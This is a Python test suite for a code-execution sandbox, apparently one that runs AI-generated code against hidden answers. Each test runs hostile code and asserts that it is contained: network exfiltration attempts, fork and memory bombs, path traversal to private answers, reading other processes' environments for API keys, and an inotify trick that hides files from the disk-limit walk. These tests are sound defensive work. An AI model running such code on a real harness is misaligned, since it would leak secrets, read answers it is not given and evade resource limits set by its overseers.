"""Hostile code against the sandbox: each attack is contained, the harness stays alive, nothing is left
running. Every program carries a unique marker in its file name so leftovers can be found in /proc."""

import os
import socket
import sys
import threading
import time
import uuid
from pathlib import Path

from openended.sandbox import Limits
from tests.sandbox.helpers import run


def test_network_is_unreachable_even_the_hosts_loopback(box):
    tmp, data, _, _ = box
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(8)
    port = server.getsockname()[1]
    got: list[bytes] = []

    def accept():
        try:
            conn, _ = server.accept()
            got.append(conn.recv(100))
        except OSError:
            pass

    t = threading.Thread(target=accept)
    t.start()
    r = run(
        tmp,
        data,
        f"""
        import socket
        for host, port in [("127.0.0.1", {port}), ("1.1.1.1", 80), ("8.8.8.8", 53)]:
            try:
                s = socket.create_connection((host, port), timeout=3)
                s.sendall(b"exfiltrated")
                print("CONNECTED", host)
            except OSError as e:
                print("blocked", host, type(e).__name__)
        """,
    )
    t.join()
    server.close()
    assert got == []
    assert "CONNECTED" not in r.output
    assert r.output.count("blocked") == 3


def test_fork_bomb_is_capped_and_killed(box):
    tmp, data, _, _ = box
    start = time.monotonic()
    r = run(
        tmp,
        data,
        """
        import os
        failures = 0
        while True:
            try:
                os.fork()
            except OSError:
                failures += 1
                if failures == 50:
                    print("fork refused", flush=True)
        """,
        timeout_s=4,
        processes=16,
    )
    assert r.timed_out
    assert "fork refused" in r.output
    assert time.monotonic() - start < 30


def test_memory_bomb_gets_memory_error(box):
    tmp, data, _, _ = box
    r = run(
        tmp,
        data,
        """
        chunks = []
        while True:
            chunks.append(bytearray(256 << 20))
        """,
        memory_mb=1024,
    )
    assert not r.ok
    assert r.out_of_memory, r.output
    assert not r.timed_out


def test_private_answers_are_not_reachable(box):
    tmp, data, private, secret = box
    r = run(
        tmp,
        data,
        f"""
        import os
        paths = [{str(private / "answers.csv")!r}, "../private/answers.csv", "data/../../private/answers.csv"]
        for path in paths:
            try:
                print(open(path).read())
            except OSError as e:
                print("denied", type(e).__name__)
        needle = bytes.fromhex("{secret.encode().hex()}")  # not spelled out: this file would match
        hits = 0
        for root, dirs, files in os.walk("/"):
            if root.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            for f in files:
                try:
                    with open(os.path.join(root, f), "rb") as fh:
                        if needle in fh.read(1 << 20):
                            hits += 1
                            print("LEAK", root, f)
                except OSError:
                    pass
        print("walked", hits)
        """,
        timeout_s=120,
    )
    assert secret not in r.output
    assert "LEAK" not in r.output
    assert "walked 0" in r.output, r.output


def test_writes_outside_the_workspace_fail_and_leave_the_host_unchanged(box):
    tmp, data, _, _ = box
    outside = tmp / "outside.txt"
    r = run(
        tmp,
        data,
        f"""
        targets = [{str(outside)!r}, "data/train.csv", "data/new.csv", "/etc/evil", "/usr/evil",
                   {str(Path(sys.executable))!r}]
        for path in targets:
            try:
                with open(path, "a") as f:
                    f.write("owned")
                print("WROTE", path)
            except OSError as e:
                print("denied", type(e).__name__)
        """,
    )
    assert "WROTE" not in r.output.replace(f"WROTE {outside}", "WROTE-INVISIBLE")
    assert not outside.exists()
    assert (data / "train.csv").read_text() == "x,y\n1,2\n"
    assert not (data / "new.csv").exists()
    assert not Path("/etc/evil").exists() and not Path("/usr/evil").exists()


def test_endless_output_is_stopped_and_truncated(box):
    tmp, data, _, _ = box
    r = run(
        tmp,
        data,
        """
        print("FIRST LINE")
        while True:
            print("spam " * 200)
        """,
        max_output_mb=2,
    )
    assert r.killed == "output limit"
    assert r.output_bytes > 2 << 20
    assert r.output.startswith("FIRST LINE")
    assert "bytes of output skipped" in r.output
    assert len(r.output) < 3 * Limits().keep_chars


def _disk_use(root: Path) -> int:
    return sum(p.lstat().st_blocks * 512 for p in root.rglob("*"))


def test_many_files_each_under_the_size_limit_cannot_fill_the_disk(box):
    tmp, data, _, _ = box
    r = run(
        tmp,
        data,
        """
        import os
        chunk = os.urandom(1 << 20)
        for i in range(100_000):
            with open(f"fill_{i}.bin", "wb") as f:
                f.write(chunk)
        print("FILLED")
        """,
        disk_mb=16,
        file_size_mb=2,
    )
    assert r.killed == "disk limit", r.output
    assert "FILLED" not in r.output
    assert "wrote too much" in r.for_llm()
    # stopped within a check interval of crossing the limit: far below what 100k files would take
    assert 16 << 20 < _disk_use(tmp / "ws") < 2 << 30


def test_a_swarm_of_empty_files_and_hidden_directories_are_stopped(box):
    tmp, data, _, _ = box
    swarm = run(
        tmp,
        data,
        """
        import os
        os.makedirs("a/b", exist_ok=True)
        for i in range(1_000_000):
            open(f"a/b/empty_{i}", "w").close()
        print("SWARMED")
        """,
        max_files=500,
    )
    assert swarm.killed == "disk limit" and "SWARMED" not in swarm.output
    assert 500 < sum(1 for _ in (tmp / "ws").rglob("*")) < 1_000_000
    # a directory its owner makes unreadable would hide what it holds from the count: it stops the run
    hidden = run(
        tmp / "second",
        data,
        """
        import os, time
        os.makedirs("hidden", exist_ok=True)
        os.chmod("hidden", 0)
        time.sleep(30)
        """,
        timeout_s=3,
    )
    if os.geteuid() == 0:  # root reads any directory: the count sees inside and the run goes to its timeout
        assert hidden.killed == "timeout"
    else:
        assert hidden.killed == "disk limit"


HIDE_FROM_THE_WALK = r"""
import ctypes, os, select, struct, time
libc = ctypes.CDLL(None, use_errno=True)
for d in ("a", "b"):
    os.mkdir(d)
    for i in range(2000):
        open(f"{d}/pad{i}", "w").close()
os.mkdir("a/h")
ino = libc.inotify_init1(0)
watch = {libc.inotify_add_watch(ino, d.encode(), 0x20): d for d in ("a", "b")}  # IN_OPEN
where = "a"
if os.fork() == 0:  # the writer lives in h, wherever h is moved
    os.chdir("a/h")
    chunk = os.urandom(1 << 20)
    for i in range(48):
        with open(f"big{i}", "wb") as f:
            f.write(chunk)
        time.sleep(0.05)
    print("WROTE ALL", flush=True)
    time.sleep(30)
    os._exit(0)
while True:  # the hider: when a walk opens the directory that holds h, move h to the other one
    if not select.select([ino], [], [], 0.05)[0]:
        continue
    buf, off, opened = os.read(ino, 65536), 0, set()
    while off < len(buf):
        w, _, _, n = struct.unpack_from("iIII", buf, off)
        off += 16 + n
        opened.add(watch[w])
    if where in opened:
        other = "b" if where == "a" else "a"
        os.rename(f"{where}/h", f"{other}/h")
        where = other
"""


def test_files_hidden_from_the_walk_or_kept_open_without_a_name_still_count(box):
    # code that watches its workspace and moves its files while the harness walks it, or that keeps files
    # open after unlinking them, must not write past the limit: the check stops the sandbox to measure and
    # counts open unnamed files
    tmp, data, _, _ = box
    hidden = run(tmp, data, HIDE_FROM_THE_WALK, disk_mb=8, max_files=10_000, timeout_s=15)
    assert hidden.killed == "disk limit" and "WROTE ALL" not in hidden.output, hidden.output
    unnamed = run(
        tmp / "second",
        data,
        """
        import os, time
        fds = []
        chunk = os.urandom(1 << 20)
        for i in range(48):
            if i % 2:
                fd = os.open(".", os.O_TMPFILE | os.O_WRONLY, 0o600)
            else:
                fd = os.open(f"f{i}", os.O_CREAT | os.O_WRONLY)
                os.unlink(f"f{i}")
            os.write(fd, chunk)
            fds.append(fd)
            time.sleep(0.05)
        fd = os.memfd_create("m")
        print("WROTE ALL", flush=True)
        time.sleep(30)
        """,
        disk_mb=8,
        timeout_s=15,
    )
    assert unnamed.killed == "disk limit" and "WROTE ALL" not in unnamed.output, unnamed.output


def test_in_memory_scratch_space_is_sized(box):
    tmp, data, _, _ = box
    r = run(
        tmp,
        data,
        """
        import os
        chunk = os.urandom(1 << 20)
        for where in ("/tmp", "/dev/shm"):
            written = 0
            try:
                for i in range(64):
                    with open(f"{where}/fill_{i}", "wb") as f:
                        f.write(chunk * 3)
                    written += 3
            except OSError as e:
                print(where, "full after", written, "MB:", e.strerror)
        """,
        file_size_mb=8,
    )
    assert r.ok, r.output
    for where in ("/tmp", "/dev/shm"):
        assert f"{where} full after 6 MB" in r.output, r.output


def test_sleeping_past_the_limit_kills_the_whole_tree_including_daemons(box):
    tmp, data, _, _ = box
    start = time.monotonic()
    r = run(
        tmp,
        data,
        """
        import os, subprocess, time
        subprocess.Popen(["sleep", "987"], start_new_session=True)
        if os.fork() == 0:          # a double-forked daemon in its own session
            os.setsid()
            if os.fork() == 0:
                time.sleep(987)
            os._exit(0)
        print("sleeping", flush=True)
        time.sleep(1000)
        """,
        timeout_s=3,
    )
    assert r.timed_out and r.killed == "timeout"
    assert "sleeping" in r.output
    assert time.monotonic() - start < 15
    assert "time limit" in r.for_llm(3)


def test_environment_is_scrubbed_of_secrets(box, monkeypatch):
    tmp, data, _, _ = box
    token = f"sk-{uuid.uuid4().hex}"
    monkeypatch.setenv("OPENAI_API_KEY", token)
    monkeypatch.setenv("OPENENDED_GDR_KEY", token)
    r = run(
        tmp,
        data,
        """
        import os
        print(dict(os.environ))
        for pid in os.listdir("/proc"):
            if pid.isdigit():
                try:
                    print(pid, open(f"/proc/{pid}/environ", "rb").read())
                except OSError:
                    pass
        """,
    )
    assert r.ok, r.output
    assert token not in r.output
    assert "OMP_NUM_THREADS" in r.output  # the variables it is given are there
